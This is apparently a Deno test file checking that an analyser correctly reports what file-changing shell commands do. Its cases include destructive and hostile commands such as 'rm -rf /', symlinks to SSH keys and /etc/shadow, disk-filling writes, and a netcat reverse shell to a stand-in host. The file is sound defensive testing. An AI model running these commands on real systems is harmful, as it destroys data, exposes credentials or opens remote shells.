/** Tests what programs that change files are said to do. */
import assert from "node:assert/strict";
import { FILES } from "../../../src/facts/programs/files.ts";
import { told, untried } from "./told.ts";

const CASES: readonly (readonly [string, readonly string[]])[] = [
  ["trash a.txt", ["delete tree /home/dev/project/a.txt"]],
  ["mv src /dev/null", ["delete tree /home/dev/project/src"]],
  ["ln -s ~/.ssh/id_rsa x", [
    "read /home/dev/.ssh/id_rsa",
    "write /home/dev/project/x",
  ]],
  ["ln -s a x", ["write /home/dev/project/x"]],
  ["rm a b", ["delete /home/dev/project/a", "delete /home/dev/project/b"]],
  ["rm -rf /", ["delete tree /"]],
  ["rm -r -f -- -x", ["delete tree /home/dev/project/-x"]],
  ["rm --rec --for build", ["delete tree /home/dev/project/build"]],
  ["rm -fR ~", ["delete tree /home/dev"]],
  ["rm a -rf", ["delete tree /home/dev/project/a"]],
  ['rm -rf "$UNSET/x"', ["unresolved variable", "delete tree $UNSET/x"]],
  ["rm --help", []],
  ["fallocate -l 1T a", [
    "write /home/dev/project/a",
    "fill disk /home/dev/project/a",
  ]],
  ["fallocate -l 8G a", ["write /home/dev/project/a"]],
  ["yes > a", ["write /home/dev/project/a", "fill disk /home/dev/project/a"]],
  ["yes | tee a", [
    "write /home/dev/project/a",
    "fill disk /home/dev/project/a",
  ]],
  ["yes | head -5 > a", ["write /home/dev/project/a"]],
  ["cat /dev/zero >> a", [
    "append /home/dev/project/a",
    "read /dev/zero",
    "fill disk /home/dev/project/a",
  ]],
  ["unlink a", ["delete /home/dev/project/a"]],
  ["rmdir -p a/b", ["delete /home/dev/project/a/b"]],
  ["shred a", ["write /home/dev/project/a"]],
  ["shred -u a", [
    "write /home/dev/project/a",
    "delete /home/dev/project/a",
  ]],
  ["srm -r a", ["delete tree /home/dev/project/a"]],
  ["trash a", ["delete tree /home/dev/project/a"]],
  ["mv a b", ["move other /home/dev/project/a", "write /home/dev/project/b"]],
  ["mv a b dir/", [
    "move other /home/dev/project/a",
    "write /home/dev/project/dir/a",
    "move other /home/dev/project/b",
    "write /home/dev/project/dir/b",
  ]],
  ["mv -t dir a", [
    "move other /home/dev/project/a",
    "write /home/dev/project/dir/a",
  ]],
  ["mv a a", []],
  ["cp a b", ["read /home/dev/project/a", "write /home/dev/project/b"]],
  ["cp -r a b dir", [
    "read /home/dev/project/a",
    "write /home/dev/project/dir/a",
    "read /home/dev/project/b",
    "write /home/dev/project/dir/b",
  ]],
  ["cp -t dir a", [
    "read /home/dev/project/a",
    "write /home/dev/project/dir/a",
  ]],
  ["cp --target-directory=dir a", [
    "read /home/dev/project/a",
    "write /home/dev/project/dir/a",
  ]],
  ["cp -T a dir", ["read /home/dev/project/a", "write /home/dev/project/dir"]],
  ["ln -s a b", ["write /home/dev/project/b"]],
  ["ln -s /etc/shadow b", [
    "read /etc/shadow",
    "write /home/dev/project/b",
  ]],
  ["ln -s /etc/passwd", ["write /home/dev/project/passwd"]],
  ["install -m 755 a /usr/local/bin/a", [
    "read /home/dev/project/a",
    "write /usr/local/bin/a",
    "chmod permissions /usr/local/bin/a",
  ]],
  ["install -m 4755 -o root -s a b", [
    "read /home/dev/project/a",
    "write /home/dev/project/b",
    "chmod permissions /home/dev/project/b loosens",
    "chown owner /home/dev/project/b",
  ]],
  ["cp -b a b", [
    "read /home/dev/project/a",
    "write /home/dev/project/b",
    "write /home/dev/project/b~",
  ]],
  ["cp --backup=numbered a b", [
    "read /home/dev/project/a",
    "write /home/dev/project/b",
    "write /home/dev/project/b.~*~",
  ]],
  ["cp --parents x/a /tmp", [
    "read /home/dev/project/x/a",
    "write /tmp/x/a",
  ]],
  ["cp a ~/bin", ["read /home/dev/project/a", "write /home/dev/bin/a"]],
  ["install -d dir", ["write /home/dev/project/dir"]],
  ["rename s/a/b/ x y", [
    "write /home/dev/project/x",
    "write /home/dev/project/y",
  ]],
  ["rename -n s/a/b/ x", []],
  ["mkdir -p a/b", ["write /home/dev/project/a/b"]],
  ["rm p; mkfifo p; cat p | sh | nc a.example 9 > p", [
    "delete /home/dev/project/p",
    "write /home/dev/project/p",
    "read /home/dev/project/p",
    "unresolved code",
    "write /home/dev/project/p",
    "send data to a.example",
  ]],
  ["curl -T - a.example < /dev/null", [
    "read /dev/null",
    "send nothing to a.example",
  ]],
  ["mkfifo pipe", ["write /home/dev/project/pipe"]],
  ["mknod dev c 1 3", ["write /home/dev/project/dev"]],
  ["mktemp -d", ["write /tmp/tmp.*"]],
  ["mktemp -u", []],
  ["mktemp xXXXX", ["write /home/dev/project/x*"]],
  ["touch -r ref a", ["append /home/dev/project/a"]],
  ["touch a", ["append /home/dev/project/a"]],
  ["truncate -s 0 a", ["write /home/dev/project/a"]],
  ["tee a b", ["write /home/dev/project/a", "write /home/dev/project/b"]],
  ["echo x | tee -a ~/.bashrc", ["append /home/dev/.bashrc"]],
  ["sponge a", ["write /home/dev/project/a"]],
  ["head -c 2T /dev/zero > a", [
    "write /home/dev/project/a",
    "read /dev/zero",
    "fill disk /home/dev/project/a",
  ]],
  ["head -c 2M /dev/zero > a", ["write /home/dev/project/a", "read /dev/zero"]],
];

for (const [command, wanted] of CASES) {
  Deno.test(`FILES: ${command}`, () => {
    assert.deepEqual(told(command), wanted);
  });
}

Deno.test("FILES has a case for every row", () => {
  assert.deepEqual(untried(FILES, CASES.map(([command]) => command)), []);
});
